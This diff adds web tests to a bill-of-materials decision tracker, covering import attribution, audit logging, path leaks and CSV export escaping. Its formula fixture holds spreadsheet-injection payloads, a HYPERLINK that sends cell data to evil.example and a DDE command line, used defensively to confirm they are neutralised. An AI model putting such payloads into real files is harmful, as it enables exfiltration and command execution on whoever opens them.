@@ -2,14 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
 import re
+import tempfile
+from collections.abc import Callable
 from pathlib import Path
 
 from fastapi.testclient import TestClient
-from tests.web.conftest import csrf_of, upload, wait_done
+from sqlalchemy import select
+from tests.web.conftest import csrf_of, sign_in, upload, wait_done
 
 from bomtrace import trace
 from bomtrace.decisions_file import DECISION_COLUMNS, load_decisions
+from bomtrace.web.db import Database
+from bomtrace.web.models import AuditEntry
+from bomtrace.web.settings import Settings
 
 EXAMPLE = Path(__file__).parents[2] / "examples" / "orlan10_teardown.xlsx"
 
@@ -171,7 +180,8 @@ def _uncited(rows: list[dict[str, object]]) -> list[dict[str, object]]:
 
 
 def test_import_a_decisions_file(client: TestClient, tmp_path: Path) -> None:
-    """Importing the CLI's decisions file records each row with its reviewer and date."""
+    """Importing the CLI's decisions file records each row under the importer's name,
+    dated today; the reviewer and date the file gives are kept in the note."""
     content = (
         "marking,manufacturer_given,decision,mpn,manufacturer,reviewer,decided_at,note\n"
         "ADXRS 620,,accept,ADXRS620BBGZ,Analog Devices,ana,2024-05-01,logo seen\n"
@@ -182,10 +192,13 @@ def test_import_a_decisions_file(client: TestClient, tmp_path: Path) -> None:
     )
     assert answer.status_code == 201 and answer.json()["imported"] == 2
     listed = client.get("/api/decisions").json()["decisions"]
-    assert [(d["marking"], d["reviewer"], d["decided_at"]) for d in listed] == [
-        ("ADXRS 620", "ana", "2024-05-01"),
-        ("TP3", "ana", "2024-05-02"),
-    ]
+    today = dt.date.today().isoformat()
+    assert [(d["marking"], d["reviewer"], d["decided_at"], d["note"]) for d in listed] == [
+        ("ADXRS 620", "local", today,
+         "logo seen (imported from mine.csv line 2, which gives reviewer ana on 2024-05-01)"),
+        ("TP3", "local", today,
+         "test point (imported from mine.csv line 3, which gives reviewer ana on 2024-05-02)"),
+    ]  # fmt: skip
     broken = client.post(
         "/api/decisions/import",
         files={"file": ("bad.csv", b"marking,decision\nX,perhaps\n")},
@@ -245,3 +258,96 @@ def test_review_page_records_a_picked_candidate(client: TestClient) -> None:
     assert (
         "Decided: <strong>accept</strong>" in client.get(f"/runs/{run_id}/review").text
     )
+
+
+FORMULAS = {
+    "marking": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "manufacturer_given": "=cmd|' /C calc'!A0",
+    "mpn": "+1+1",
+    "manufacturer": "-2+3",
+    "note": "@SUM(1,2)",
+}
+
+
+def test_exported_decisions_run_no_formula_and_read_back_the_same(
+    client: TestClient, tmp_path: Path
+) -> None:
+    """Every cell of the decisions export that a spreadsheet would run starts with a
+    quote (as in the run outputs); the command line reads the file back to the same
+    decisions (#14, finding 5)."""
+    made = client.post("/api/decisions", json={**FORMULAS, "decision": "accept"})
+    assert made.status_code == 201
+    exported = client.get("/api/decisions?format=csv").content.decode("utf-8")
+    [row] = list(csv.DictReader(io.StringIO(exported)))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    path = tmp_path / "decisions.csv"
+    path.write_text(exported, encoding="utf-8")
+    [decision] = load_decisions(path).all()
+    assert (
+        decision.marking, decision.manufacturer_given, decision.mpn, decision.maker,
+        decision.note,
+    ) == tuple(FORMULAS.values())  # fmt: skip
+
+
+def test_an_import_cannot_file_decisions_in_another_name(
+    team_app: Callable[[], TestClient],
+    add_user: Callable[[str, str], None],
+    team_settings: Settings,
+) -> None:
+    """A researcher importing a file that names an admin as reviewer, years back, files
+    the decisions under their own name, today; the file's claim is kept in the note and
+    the import is in the audit log (#14, finding 6)."""
+    add_user("adam", "admin")
+    add_user("ana", "researcher")
+    ana = team_app()
+    csrf = sign_in(ana, "ana")
+    content = (
+        "marking,manufacturer_given,decision,mpn,manufacturer,reviewer,decided_at,note\n"
+        "LM358DR,,accept,LM358DR,Texas Instruments,adam,2019-01-01,approved by the admin\n"
+    )
+    answer = ana.post(
+        "/api/decisions/import",
+        files={"file": ("claims.csv", content.encode())},
+        headers={"X-CSRF-Token": csrf},
+    )
+    assert answer.status_code == 201
+    [decision] = ana.get("/api/decisions").json()["decisions"]
+    assert (decision["reviewer"], decision["decided_at"]) == (
+        "ana",
+        dt.date.today().isoformat(),
+    )
+    assert decision["note"] == (
+        "approved by the admin (imported from claims.csv line 2,"
+        " which gives reviewer adam on 2019-01-01)"
+    )
+    db = Database(team_settings.database_url)
+    with db.session() as session:
+        entry = session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "decision.import")
+        ).one()
+    db.dispose()
+    assert (entry.actor, entry.via) == ("ana", "session")
+    assert entry.detail.startswith("claims.csv (sha256 ")
+    assert entry.detail.endswith(": 1 decision(s)")
+
+
+def test_an_unreadable_decisions_file_names_no_server_path(client: TestClient) -> None:
+    """A decisions file that cannot be decoded is named as uploaded; the server's
+    temporary folder never appears in the answer (#14, finding 9)."""
+    answer = client.post(
+        "/api/decisions/import",
+        files={"file": ("d.csv", b"marking,decision\n\xff\xfe\n")},
+    )
+    assert answer.status_code == 422
+    detail = answer.json()["detail"]
+    assert detail.startswith("decisions file d.csv cannot be read ("), detail
+    assert tempfile.gettempdir() not in detail and "/tmp" not in detail
+    page = client.post(
+        "/decisions/import",
+        data={"csrf_token": csrf_of(client, "/decisions")},
+        files={"file": ("d.csv", b"marking,decision\n\xff\xfe\n")},
+    )
+    assert page.status_code == 422
+    assert "decisions file d.csv cannot be read (" in page.text
+    assert "/tmp" not in page.text
